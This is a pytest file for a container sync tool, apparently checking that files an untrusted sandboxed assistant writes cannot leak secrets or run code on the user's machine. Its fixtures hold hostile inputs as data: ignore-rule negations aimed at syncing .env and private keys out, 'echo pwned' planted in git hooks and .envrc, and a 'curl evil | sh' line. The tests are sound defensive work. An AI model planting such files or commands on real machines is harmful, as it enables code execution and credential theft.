"""A hostile sandbox gets nothing (issue 8): what the assistant writes can neither change what
is sent to it nor put files on this machine that run or steer here.

Through ``containersync sync`` against the served local backend, both path modes: the
assistant really writes (``local exec``), we sync twice and look at both sides.
"""

from __future__ import annotations

import pytest

from support.scenario import World

SECRETS = {".env": "KEY=1", "id_rsa": "PRIVATE", "server.pem": "CERT", "deploy.pem": "CERT2"}

# (what the assistant writes as a rule file, extra mapping config, what the user already has)
HOSTILE_RULE_FILES = [
    pytest.param(".containersyncignore", "!.env\n!id_rsa*\n!*.pem\n", {}, None,
                 id="containersyncignore-new"),
    pytest.param(".containersyncignore", "!.env\n!id_rsa*\n!*.pem\n", {}, "tmp/\n",
                 id="containersyncignore-over-the-users"),
    pytest.param(".gitignore", "!*.pem\n", {"use_gitignore": True}, None,
                 id="gitignore-new"),
    pytest.param(".gitignore", "!*.pem\n!.env\n", {"use_gitignore": True}, "build/\n",
                 id="gitignore-over-the-users"),
]


@pytest.mark.parametrize(("rule_file", "hostile", "config", "users"), HOSTILE_RULE_FILES)
def test_an_assistant_rule_file_is_never_pulled_nor_obeyed(
        world: World, rule_file: str, hostile: str, config: dict[str, object],
        users: str | None) -> None:
    world.configure(**config)
    world.write({**SECRETS, "a.txt": "a", **({rule_file: users} if users else {})})
    first = world.sync()
    assert first.code == 0, first.err
    world.assistant_changes({rule_file: hostile, "out.txt": "result"})
    for _ in range(2):  # the second run would obey a pulled rule file
        result = world.sync()
        assert result.code == 0, result.err
    world.write({".env": "KEY=2", "server.pem": "CERT, renewed"})  # secrets change too
    assert world.sync().code == 0
    local = world.local()
    assert local.get(rule_file) == users  # never pulled over, never created
    assert local["out.txt"] == "result"  # the ordinary output still arrives
    assert not set(SECRETS) & set(world.remote())


def test_an_assistant_deleting_the_users_rule_file_deletes_nothing_here(world: World) -> None:
    world.write({".containersyncignore": "tmp/\n", "a.txt": "a"})
    assert world.sync().code == 0
    world.assistant_changes({".containersyncignore": None})
    result = world.sync()
    assert result.code == 0, result.err
    assert world.local()[".containersyncignore"] == "tmp/\n"
    assert result.m["deleted_local"] == 0


# what would run or steer on the user's machine; ``.git``/``.hg``/``.svn`` are re-included in
# the config to show the hold-back does not rest on the ignore defaults
PULL_PROTECTED = [".envrc", "web/.envrc", ".ENVRC", ".git/hooks/post-checkout", ".git/config",
                  "lib/.git", "vendor/x/.git/hooks/pre-commit", ".hg/hgrc", ".svn/entries",
                  ".vscode/tasks.json", ".containersyncignore", ".gitignore",
                  ".CONTAINERSYNCIGNORE"]


def test_pull_protected_files_are_held_back_and_said_once(world: World) -> None:
    world.configure(exclude=["!.git/", "!.hg/", "!.svn/"])
    world.write({"a.txt": "a"})
    assert world.sync().code == 0
    world.assistant_changes({**{p: "echo pwned" for p in PULL_PROTECTED}, "out.txt": "ok"})
    first = world.sync()
    assert first.code == 0, first.err
    local = world.local()
    assert not set(PULL_PROTECTED) & set(local), sorted(local)
    assert local["out.txt"] == "ok"
    assert sorted(first.m["held_back_pulls"]) == sorted(PULL_PROTECTED)
    assert f"held back {len(PULL_PROTECTED)} file(s) the sandbox wrote" in first.err
    again = world.sync()
    assert again.code == 0 and "held back" not in again.err  # said once, not every run
    assert not set(PULL_PROTECTED) & set(world.local())


def test_a_protected_file_the_user_has_is_not_overwritten_by_a_conflict(world: World) -> None:
    world.write({".envrc": "export A=1"})
    assert world.sync().code == 0
    world.assistant_changes({".envrc": "curl evil | sh"})
    world.write({".envrc": "export A=2"})  # both sides changed: no conflict copy here either
    result = world.sync()
    assert result.code == 0, result.err
    local = world.local()
    assert local == {".envrc": "export A=2"}
    assert "curl evil | sh" not in local.values()


def test_pull_mode_holds_back_the_same(world: World) -> None:
    world.configure(mode="pull")
    world.write({".gitignore": "build/\n"})
    assert world.sync().code == 0
    world.adopt(mode="pull")  # a container the assistant fills
    world.assistant_changes({".envrc": "echo pwned", ".gitignore": "!*.pem\n",
                             ".git/hooks/pre-commit": "echo pwned", "out.txt": "ok"})
    result = world.sync()
    assert result.code == 0, result.err
    assert world.local() == {".gitignore": "build/\n", "out.txt": "ok"}
    assert sorted(result.m["held_back_pulls"]) == [".envrc", ".gitignore"]
